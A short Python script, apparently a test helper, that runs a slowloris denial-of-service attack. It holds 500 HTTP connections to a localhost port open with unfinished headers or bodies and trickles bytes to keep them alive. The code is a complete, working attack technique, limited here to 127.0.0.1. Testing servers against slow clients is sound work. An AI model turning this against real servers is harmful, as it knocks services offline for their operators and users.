"""Slow loris: `python dawdlers.py PORT PATH`.

Prints `ready` once all its connections are open, and dawdles until SIGTERM. Half of them never end
the head of their request, the others never its body. Whoever is hung up on comes back.
"""

import itertools
import signal
import socket
import sys
import time

CONNECTIONS = 500
EVERY_S = 1.0
"""How often each of them sends one byte more."""
_LIMIT_S = 15.0


def main() -> int:
    """Dawdle until SIGTERM."""
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    port, path = int(sys.argv[1]), sys.argv[2]
    connections = [_begin(port, path, number) for number in range(CONNECTIONS)]
    print("ready", flush=True)
    for number in itertools.cycle(range(CONNECTIONS)):
        time.sleep(EVERY_S / CONNECTIONS)
        try:
            connections[number].send(b"x")
        except OSError:
            connections[number].close()
            connections[number] = _begin(port, path, number)
    return 0


def _begin(port: int, path: str, number: int) -> socket.socket:
    head = f"POST {path} HTTP/1.1\r\nHost: here\r\nContent-Type: application/json\r\n"
    rest = "X-Slow: " if number % 2 else "Content-Length: 1000000\r\n\r\n{"
    connection = socket.create_connection(("127.0.0.1", port), _LIMIT_S)
    connection.sendall((head + rest).encode())
    return connection


if __name__ == "__main__":
    sys.exit(main())
